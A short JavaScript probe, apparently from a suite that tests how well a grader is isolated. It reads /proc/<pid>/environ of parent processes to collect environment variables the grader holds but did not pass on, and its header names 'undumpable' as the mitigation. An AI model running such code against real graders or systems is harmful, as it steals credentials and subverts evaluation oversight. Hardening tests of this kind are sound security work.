// ---
// tries: Reads the environment of its parent and of the first process, for what it was not given itself.
// place: before
// gain: whatever the grader keeps in its environment
// helps: undumpable
// ---
for (const pid of attack.parents) {
  const path = "/proc/" + pid + "/environ";
  const text = attack.quietly(() => attack.fs.readFileSync(path, "utf8")) ?? "";
  const known = new Set(Object.entries(attack.process.env).map((pair) => pair.join("=")));
  const read = text.split("\0").filter((each) => each !== "" && !known.has(each) && !/^(_|PWD|OLDPWD|SHLVL)=/.test(each))
    .map((each) => ({ path, text: each }));
  if (read.length > 0) attack.keep({ read });
}
